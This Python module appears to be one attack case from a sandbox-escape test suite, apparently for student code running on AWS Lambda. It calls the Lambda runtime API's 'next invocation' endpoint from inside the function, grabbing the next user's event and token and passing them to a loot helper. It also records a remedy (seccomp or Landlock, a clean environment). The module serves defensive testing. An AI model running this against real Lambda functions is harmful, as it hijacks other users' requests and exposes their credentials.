# SPDX-License-Identifier: MIT
"""Goal:  the next request, with somebody else's token in it.
Means: the function's control interface gives the next event to whoever asks for it, over HTTP on
       the loopback, and its address is in the environment. No firewall between machines sees it.
       The worker, which should have had the event, waits.
"""

import http.client
import os

from attack import DONE, attempting, denied, loot


def run(brief):
    address = os.environ.get("AWS_LAMBDA_RUNTIME_API")
    attempting()
    if not address:
        return denied("AWS_LAMBDA_RUNTIME_API", "not in the environment")
    try:
        api = http.client.HTTPConnection(address, timeout=3)
        api.request("GET", "/2018-06-01/runtime/invocation/next")
        loot(api.getresponse().read(65536))
    except OSError as why:
        return denied(address, why)
    return DONE


ATTACK = {
    "effect": "the next student's event goes to the attacker",
    "means": "GET .../invocation/next, at the address in the environment",
    "oracle": "secret:victim",
    "quick": True,
    "id": "LAPI-01",
    "attack_id": "T1557, CWE-306",
    "remedy": "seccomp without socket, or Landlock without connect_tcp; a clean environment",
    "refs": ["AWS Lambda runtime API, Next invocation"],
    "run": run,
}
